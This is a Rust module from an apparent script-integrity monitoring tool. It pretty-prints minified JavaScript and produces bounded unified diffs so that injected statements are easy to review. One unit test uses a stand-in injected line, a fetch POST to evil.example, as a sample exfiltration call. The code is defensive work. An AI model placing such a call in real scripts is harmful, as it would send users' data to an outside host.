//! Readable diffs of JavaScript for altered-script findings.
//!
//! Production scripts are usually minified onto one line, so a plain line diff would show the
//! whole file as changed. We re-print the code with oxc (one statement per line, indented)
//! before diffing, so that an injected statement shows up as one `+` line a reviewer can read.
//! Code that does not parse is diffed as-is: a diff must never fail or invent text. Code outside
//! the analysis budget (`inventory::budget`: too large, too deeply nested, too slow) is not
//! pretty-printed or diffed at all; the diff text is then one note saying why.
//! Line diffs run under [`budget::DIFF_TIME`] and are cut at [`DIFF_MAX_LINES`] lines and
//! [`DIFF_MAX_BYTES`] bytes, so a hostile script cannot make a quadratic or huge diff.

use crate::inventory::budget::{self, Refusal};
use oxc_allocator::Allocator;
use oxc_codegen::{Codegen, CodegenOptions, IndentChar};
use oxc_parser::Parser;
use oxc_span::SourceType;
use similar::TextDiff;

/// Line cap used by [`diff_scripts`]: enough to review an injection, small enough for a report.
pub const DIFF_MAX_LINES: usize = 400;

/// Byte cap of a diff: a minified line can be megabytes long.
pub const DIFF_MAX_BYTES: usize = 256 * 1024;

/// Pretty-prints JavaScript, or returns `src` unchanged when it parses neither as a script nor
/// as a module.
///
/// Scripts are parsed as CommonJS first, which also accepts a top-level `return`, so most
/// event-handler bodies pretty-print too; nothing is ever wrapped or added around the code.
/// Comments may be dropped by the printer; [`diff_scripts`] accounts for that.
///
/// Code outside the analysis budget is returned unchanged too; [`pretty_js_checked`] says why.
pub fn pretty_js(src: &str) -> String {
    pretty_js_checked(src).unwrap_or_else(|_| src.to_string())
}

/// [`pretty_js`], or why the code is outside the analysis budget.
pub fn pretty_js_checked(src: &str) -> Result<String, Refusal> {
    budget::run(src, pretty_unbounded).map(|code| code.unwrap_or_else(|| src.to_string()))
}

/// Only on code [`budget::admit`] accepted: oxc recurses over the syntax tree.
fn pretty_unbounded(src: &str) -> Option<String> {
    [SourceType::cjs(), SourceType::mjs()].into_iter().find_map(|source_type| print_as(src, source_type))
}

fn print_as(src: &str, source_type: SourceType) -> Option<String> {
    let allocator = Allocator::default();
    let parsed = Parser::new(&allocator, src, source_type).parse();
    // Recoverable syntax errors still yield an AST, but printing it would show code that is
    // not what the browser ran, so any diagnostic means "fall back to the raw text".
    if parsed.panicked || !parsed.diagnostics.is_empty() {
        return None;
    }
    let options = CodegenOptions { indent_char: IndentChar::Space, indent_width: 2, ..CodegenOptions::default() };
    let code = Codegen::new().with_options(options).build(&parsed.program).code;
    // Empty output for non-empty input would hide everything (e.g. a comment-only script).
    if code.trim().is_empty() && !src.trim().is_empty() {
        return None;
    }
    Some(code)
}

/// Unified diff (3 lines of context, changed hunks only) of `old` vs `new`, cut after
/// `max_lines` lines with a final `… N more lines` line. Empty when the texts are equal.
/// The diff runs under [`budget::DIFF_TIME`] (past it, a coarser diff) and is also cut at
/// [`DIFF_MAX_BYTES`], ending with a `… cut at N bytes` line.
pub fn unified_diff(old: &str, new: &str, old_label: &str, new_label: &str, max_lines: usize) -> String {
    let diff = TextDiff::configure().deadline(std::time::Instant::now() + budget::DIFF_TIME).diff_lines(old, new);
    let full = diff.unified_diff().context_radius(3).header(old_label, new_label).to_string();
    cap_bytes(cap_lines(&full, max_lines))
}

fn cap_lines(text: &str, max_lines: usize) -> String {
    let lines: Vec<&str> = text.lines().collect();
    if lines.len() <= max_lines {
        return text.to_string();
    }
    let mut out = String::new();
    for line in &lines[..max_lines] {
        out.push_str(line);
        out.push('\n');
    }
    out.push_str(&format!("… {} more lines\n", lines.len() - max_lines));
    out
}

fn cap_bytes(text: String) -> String {
    if text.len() <= DIFF_MAX_BYTES {
        return text;
    }
    format!("{}\n… cut at {DIFF_MAX_BYTES} bytes\n", crate::text::cut_bytes(&text, DIFF_MAX_BYTES))
}

/// Diff of two versions of a script for a finding: both pretty-printed, then a unified diff
/// capped at [`DIFF_MAX_LINES`].
///
/// When the pretty-printed forms are identical but the sources differ (the printer normalises
/// quotes and drops comments), the raw sources are diffed instead so the change is never hidden.
///
/// When either version is outside the analysis budget, the diff is one line naming the version
/// and the reason: printing or line-diffing hostile code is exactly what the budget prevents.
pub fn diff_scripts(old_src: &str, new_src: &str, old_label: &str, new_label: &str) -> String {
    let (old_pretty, new_pretty) = match (pretty_js_checked(old_src), pretty_js_checked(new_src)) {
        (Ok(old), Ok(new)) => (old, new),
        (Err(refusal), _) => return omitted(old_label, refusal),
        (_, Err(refusal)) => return omitted(new_label, refusal),
    };
    if old_pretty == new_pretty && old_src != new_src {
        return unified_diff(old_src, new_src, old_label, new_label, DIFF_MAX_LINES);
    }
    unified_diff(&old_pretty, &new_pretty, old_label, new_label, DIFF_MAX_LINES)
}

/// The diff text when a version is outside the budget.
fn omitted(label: &str, refusal: Refusal) -> String {
    format!("(diff omitted for {label}: {refusal})\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn minified_one_liner_prints_one_statement_per_line() {
        let out = pretty_js("var a=1;function f(x){return x+a}f(2);");
        let lines: Vec<&str> = out.lines().filter(|l| !l.trim().is_empty()).collect();
        assert!(lines.len() >= 3, "got {out:?}");
        assert!(lines.iter().any(|l| l.trim_start().starts_with("return x + a")), "got {out:?}");
        // The body is indented with two spaces.
        assert!(out.contains("\n  return"), "got {out:?}");
    }

    #[test]
    fn module_syntax_pretty_prints() {
        let out = pretty_js("import {a} from './a.js';export const b=a+1;console.log(b);");
        assert!(out.lines().count() >= 3, "got {out:?}");
        assert!(out.contains("import"));
    }

    #[test]
    fn invalid_js_falls_back_to_raw_text() {
        let src = "var = = ;{{ not js";
        assert_eq!(pretty_js(src), src);
    }

    #[test]
    fn handler_body_with_top_level_return_is_not_wrapped() {
        let out = pretty_js("if(window.x)return false;go()");
        assert!(!out.contains("function"), "got {out:?}");
        assert!(out.contains("return false"), "got {out:?}");
    }

    #[test]
    fn appended_statement_is_a_plus_line() {
        let old = "var a=1;function f(x){return x+a}f(2);";
        let new = "var a=1;function f(x){return x+a}f(2);fetch('https://evil.example/c',{method:'POST'});";
        let diff = diff_scripts(old, new, "approved 1", "current 2");
        assert!(diff.starts_with("--- approved 1\n+++ current 2\n"), "got {diff}");
        let plus: Vec<&str> = diff.lines().filter(|l| l.starts_with('+') && !l.starts_with("+++")).collect();
        assert_eq!(plus.len(), 1, "got {diff}");
        assert!(plus[0].contains("evil.example"), "got {diff}");
        assert!(!diff.lines().any(|l| l.starts_with('-') && !l.starts_with("---")), "got {diff}");
    }

    #[test]
    fn comment_only_change_still_shows() {
        let diff = diff_scripts("a();\n// one\n", "a();\n// two\n", "old", "new");
        assert!(diff.contains("-// one") && diff.contains("+// two"), "got {diff}");
    }

    #[test]
    fn equal_texts_give_empty_diff() {
        assert_eq!(unified_diff("a\nb\n", "a\nb\n", "x", "y", 10), "");
    }

    #[test]
    fn cap_cuts_and_counts_remaining_lines() {
        let old: String = (0..50).map(|i| format!("line {i}\n")).collect();
        let new: String = (0..50).map(|i| format!("LINE {i}\n")).collect();
        let full = unified_diff(&old, &new, "a", "b", usize::MAX);
        let total = full.lines().count();
        let capped = unified_diff(&old, &new, "a", "b", 10);
        let lines: Vec<&str> = capped.lines().collect();
        assert_eq!(lines.len(), 11);
        assert_eq!(lines[10], format!("… {} more lines", total - 10));
        assert_eq!(lines[..10], full.lines().take(10).collect::<Vec<_>>()[..]);
    }

    #[test]
    fn hostile_scripts_get_a_note_instead_of_a_diff() {
        for (name, src) in crate::inventory::budget::hostile_inputs() {
            let started = std::time::Instant::now();
            assert_eq!(pretty_js(&src), src, "{name}");
            assert_eq!(pretty_js_checked(&src), Err(Refusal::TooDeep), "{name}");
            let diff = diff_scripts("var x = 1;", &src, "approved 1", "current 2");
            assert_eq!(
                diff,
                "(diff omitted for current 2: too deeply nested to analyse (depth > 2000): compared byte for byte)\n",
                "{name}"
            );
            let diff = diff_scripts(&src, "var x = 1;", "approved 1", "current 2");
            assert!(diff.starts_with("(diff omitted for approved 1: too deeply nested"), "{name}: {diff}");
            assert!(started.elapsed() < crate::text::TEST_TIME_LIMIT, "{name}: {:?}", started.elapsed());
        }
    }

    #[test]
    fn odd_scripts_and_huge_diffs_are_bounded() {
        for (name, src) in crate::inventory::budget::odd_inputs() {
            let _ = diff_scripts("x();", &src, "a", "b");
            eprintln!("{name}: ok");
        }
        // Two unrelated texts of many lines: the line diff has a deadline and a byte cap.
        let old: String = (0..20_000).map(|i| format!("a{i}();\n")).collect();
        let new: String = (0..20_000).map(|i| format!("b{}();\n", i * 7)).collect();
        let started = std::time::Instant::now();
        let diff = unified_diff(&old, &new, "a", "b", usize::MAX);
        assert!(
            diff.len() <= DIFF_MAX_BYTES + 64 && diff.ends_with(&format!("… cut at {DIFF_MAX_BYTES} bytes\n")),
            "{}",
            diff.len()
        );
        assert!(started.elapsed() < crate::text::TEST_TIME_LIMIT, "{:?}", started.elapsed());
    }
}
